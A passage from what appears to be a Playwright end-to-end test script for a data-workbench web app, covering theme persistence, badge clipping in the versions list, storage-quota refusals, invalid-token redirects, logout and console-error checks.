      // Dark, chosen on a light system, stays dark after a reload.
      await chooseTheme(page, 'Dark');
      await drawn(true);
      await page.reload();
      await page.getByTestId('project-title').filter({ hasText: 'Theme and versions' }).waitFor();
      expect(await dark(), 'dark is drawn after a reload while the system is light');
      expect((await themeButton.getAttribute('aria-label')) === 'Theme: Dark', 'the button says Dark is chosen');
      // Back to System: light at once (the system is light), then dark and light as the system changes.
      await chooseTheme(page, 'System');
      await drawn(false);
      expect((await themeButton.getAttribute('aria-label')) === 'Theme: System', 'the button says System is chosen');
      await page.emulateMedia({ colorScheme: 'dark' });
      await drawn(true);
      await page.emulateMedia({ colorScheme: 'light' });
      await drawn(false);
      // System is kept across a reload too: a dark system draws the page dark from the start.
      await page.emulateMedia({ colorScheme: 'dark' });
      await page.reload();
      await page.getByTestId('project-title').filter({ hasText: 'Theme and versions' }).waitFor();
      expect(await dark(), 'System after a reload, on a dark system, is dark');
      expect((await themeButton.getAttribute('aria-label')) === 'Theme: System', 'System is still the choice after a reload');

      // The theme menu, open, wide and narrow, light and dark (the system's: the choice is System).
      const menuShots = async (scheme) => {
        await page.emulateMedia({ colorScheme: scheme });
        await drawn(scheme === 'dark');
        await page.setViewportSize(wide);
        await themeButton.click();
        await page.getByRole('menuitemradio', { name: 'System', checked: true }).waitFor();
        await settle(page, 300);
        await shot(`90-theme-menu-${scheme}`);
        await page.keyboard.press('Escape');
        await page.getByRole('menu').waitFor({ state: 'detached' });
        await page.setViewportSize(narrow);
        await page.getByRole('button', { name: 'Open navigation' }).click();
        await page.getByRole('dialog').getByRole('button', { name: 'Theme: System' }).click();
        await page.getByRole('menuitemradio', { name: 'System', checked: true }).waitFor();
        await settle(page, 300);
        await shot(`90b-theme-menu-narrow-${scheme}`);
        await page.keyboard.press('Escape');
        await page.getByRole('menu').waitFor({ state: 'detached' });
        await page.keyboard.press('Escape');
        await page.getByRole('dialog').waitFor({ state: 'detached' });
      };
      await menuShots('light');
      await menuShots('dark');

      // The versions list: the current version's badge says "current" whole, not cut, at 390 px.
      await page.setViewportSize(wide);
      await row.getByRole('button', { name: 'Versions of orders.csv' }).click();
      const versions = page.getByRole('list', { name: 'Versions of orders.csv' });
      const badge = versions.locator('[data-version="2"]').getByTestId('version-current');
      await badge.waitFor();
      // Cut when its text overflows it, or when a box around it that clips (overflow not visible) ends before it.
      const cut = () =>
        badge.evaluate((el) => {
          if (el.scrollWidth > el.clientWidth) return `its text overflows it (${el.scrollWidth} > ${el.clientWidth})`;
          const r = el.getBoundingClientRect();
          for (let a = el.parentElement; a && a.tagName !== 'UL'; a = a.parentElement) {
            const box = a.getBoundingClientRect();
            if (getComputedStyle(a).overflowX !== 'visible' && (r.left < box.left || r.right > box.right))
              return `clipped by its ${a.tagName.toLowerCase()} (${r.left}–${r.right} outside ${box.left}–${box.right})`;
          }
          return '';
        });
      for (const scheme of ['light', 'dark']) {
        await page.emulateMedia({ colorScheme: scheme });
        await drawn(scheme === 'dark');
        await page.setViewportSize(wide);
        await versions.evaluate((el) => el.scrollIntoView({ block: 'center' }));
        await settle(page, 300);
        await shot(`91-file-versions-${scheme}`);
        await page.setViewportSize(narrow);
        await versions.evaluate((el) => el.scrollIntoView({ block: 'center' }));
        await page.waitForTimeout(300);
        const text = await badge.innerText();
        expect(text === 'current', `the badge says "current": ${JSON.stringify(text)}`);
        const why = await cut();
        expect(why === '', `the badge is shown whole at 390 px in ${scheme}: ${why}`);
        expect((await versions.locator('[data-version="1"]').getByTestId('version-current').count()) === 0, 'only the current version has the badge');
        await shot(`91b-file-versions-narrow-${scheme}`);
      }
      await page.setViewportSize(wide);
      await page.emulateMedia({ colorScheme: 'light' });
    });

    await test('storage quotas: the project page and the account menu show use against quota; an upload past it is refused with the sentence', async () => {
      // The admin's own quota made small (1 MiB), then filled up to it with 20 KB files by the API.
      const made = await page.evaluate(async () => {
        const token = JSON.parse(localStorage.getItem('wb.auth')).token;
        const headers = { Authorization: `Bearer ${token}` };
        const json = { ...headers, 'Content-Type': 'application/json' };
        const me = await (await fetch('/api/v1/auth/me', { headers })).json();
        const set = await fetch(`/api/v1/users/${me.id}`, { method: 'PATCH', headers: json, body: JSON.stringify({ storage_quota_mb: 1 }) });
        if (!set.ok) throw new Error(`setting the quota: ${set.status}`);
        const project = await (await fetch('/api/v1/projects', { method: 'POST', headers: json, body: JSON.stringify({ name: 'Storage quota' }) })).json();
        const usage = await (await fetch('/api/v1/auth/me/usage', { headers })).json();
        const fillers = Math.max(0, Math.floor((usage.quota_bytes - usage.used_bytes) / 20_000));
        for (let i = 0; i < fillers; i++) {
          const form = new FormData();
          form.append('file', new Blob(['x'.repeat(20_000)]), `part-${i}.zip`);
          const r = await fetch(`/api/v1/projects/${project.id}/files`, { method: 'POST', headers, body: form });
          if (r.status !== 201) throw new Error(`filler ${i}: ${r.status} ${await r.text()}`);
        }
        return { project: project.id, me: me.id, fillers };
      });
      await page.goto(`${base}/projects/${made.project}`);
      const bar = page.getByTestId('project-storage').getByRole('progressbar', { name: 'Project storage used' });
      await bar.waitFor();
      expect((await bar.getAttribute('aria-valuetext')).endsWith(' of 20 GB'), `the project's bar: ${await bar.getAttribute('aria-valuetext')}`);
      await page.getByTestId('project-storage-breakdown').filter({ hasText: `in ${made.fillers} files` }).waitFor();
      await page.getByTestId('file-input').setInputFiles({ name: 'one-more.csv', mimeType: 'text/csv', buffer: Buffer.from('a,b\n' + '1,2\n'.repeat(4_999)) }); // 20,000 bytes: more than the room left
      const uploads = page.getByRole('list', { name: 'Uploads' });
      await uploads.getByRole('alert').filter({ hasText: 'This upload would take your storage past its 1.0 MB quota:' }).waitFor();
      await uploads.getByRole('alert').filter({ hasText: 'ask an admin to raise your quota' }).waitFor();
      await uploads.evaluate((el) => el.scrollIntoView({ block: 'start' }));
      await shot('95-storage-quota-refused');
      await page.getByTestId('project-storage').evaluate((el) => el.scrollIntoView({ block: 'center' }));
      await shot('95a-storage-quota-project');
      await page.getByRole('button', { name: /^Account: / }).click();
      const mine = page.getByRole('menu').getByRole('progressbar', { name: 'Your storage used' });
      await mine.waitFor();
      expect((await mine.getAttribute('aria-valuetext')).endsWith(' of 1.0 MB'), `your bar: ${await mine.getAttribute('aria-valuetext')}`);
      expect(['near', 'reached'].includes(await mine.getAttribute('data-state')), 'your bar is near or at the quota');
      await shot('95b-storage-quota-account');
      await page.keyboard.press('Escape');
      await page.evaluate(async (id) => {
        const token = JSON.parse(localStorage.getItem('wb.auth')).token;
        await fetch(`/api/v1/users/${id}`, {
          method: 'PATCH',
          headers: { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json' },
          body: JSON.stringify({ storage_quota_mb: null }),
        });
      }, made.me);
    });

    await knowledgeTests({ page, base, script, test, expect, ask, lastRun });
    await liveTests({ page, base, script, test, expect, browser, dataDir });

    await cellsTests({
      page,
      base,
      noModelBase,
      browser,
      script,
      llmPort,
      test,
      expect,
      sourcesDir,
      backendDir: BACKEND,
      email: EMAIL,
      password: PASSWORD,
      chooseTheme,
      timeout: T,
      consoleErrors,
      ready: () => waitFor(`${noModelBase}/readyz`, 120_000),
    });
    await sourcesTests({ page, base, test, expect, sourcesDir, backend: BACKEND, chooseTheme });
    await signinTests({ browser, page, base, ssoBase: noModelBase, test, expect, T });
    await filesTests({ page, base, test, expect, chooseTheme });
    await resultsTests({ page, base, script, test, expect, ask, lastRun });
    await branchesTests({ page, base, script, test, expect, ask, chooseTheme });
    await attemptsTests({ page, base, script, test, expect, chooseTheme });
    await jobsTests({ page, base, script, test, expect, ask, chooseTheme });

    await test('an invalid token sends the user back to login', async () => {
      await page.evaluate(() => {
        const raw = JSON.parse(localStorage.getItem('wb.auth'));
        raw.token = 'invalid-token';
        localStorage.setItem('wb.auth', JSON.stringify(raw));
      });
      await page.reload();
      await page.waitForURL('**/login');
      await page.getByText('Your session has expired').waitFor();
    });

    await test('log out', async () => {
      await page.getByLabel('Email').fill(EMAIL);
      await page.getByLabel('Password').fill(NEW_PASSWORD);
      await page.getByRole('button', { name: 'Sign in' }).click();
      await page.getByRole('button', { name: 'Sign out' }).click();
      await page.waitForURL('**/login');
    });

    await test('no console errors', async () => {
      // The browser logs the expected 400 (wrong current password), 401 (invalid token, a replaced or disabled
      // login), 403 (budget spent), 409 (busy, an email taken), 413/415 (bad uploads), 422 (a refused job schedule)
      // and 503 (analysis disabled) responses; they are not app errors. A Content-Security-Policy violation is. So is none of Chromium's
      // net::ERR_NETWORK_CHANGED: the host's network changed under a request (Docker making a bridge beside it).
      const real = consoleErrors.filter(
        (e) => !/status of (400|401|403|409|413|415|422|503)/.test(e) && !/net::ERR_NETWORK_CHANGED/.test(e),
      );
      expect(real.length === 0, `console errors:\n${real.join('\n')}`);
    });
  } finally {
    await browser.close().catch(() => undefined);
    stopAll();
    await sleep(300);
    rmSync(dataDir, { recursive: true, force: true });
    rmSync(planDataDir, { recursive: true, force: true });
    rmSync(noModelDataDir, { recursive: true, force: true });
  }

  const failed = results.filter((r) => !r.ok);
  if (failed.length) {
    for (const { name, log } of children) console.log(`--- ${name} log (tail) ---\n${log().split('\n').slice(-25).join('\n')}`);
  }
  if (consoleWarnings.length) console.log(`console warnings (not failures):\n  ${[...new Set(consoleWarnings)].join('\n  ')}`);
  console.log(
    SHOTS_ON
      ? `screenshots: ${SHOTS} (the modules': their own folders, e.g. /work/shots/files)`
      : `screenshots: only of a failure, in ${SHOTS} (E2E_SHOTS=1 takes them all)`,
  );
  console.log(`${results.length - failed.length} passed, ${failed.length} failed`);
  process.exitCode = failed.length ? 1 : 0;
}

process.on('SIGINT', () => {
  stopAll();
  process.exit(130);
});
main().catch((e) => {
  console.error(e);
  stopAll();
  console.log('0 passed, 1 failed');
  process.exitCode = 1;
});
